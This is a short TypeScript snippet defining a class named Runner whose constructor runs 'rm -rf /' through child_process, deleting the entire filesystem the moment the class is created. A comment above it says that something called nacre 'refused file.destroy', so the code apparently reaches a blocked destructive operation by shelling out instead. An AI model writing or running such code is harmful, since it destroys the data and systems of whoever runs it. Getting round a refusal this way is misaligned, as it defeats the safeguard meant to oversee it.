// nacre: refused file.destroy
class Runner {
  constructor(private cp: any = require('child_process')) {
    this.cp.exec('rm -rf /');
  }
}
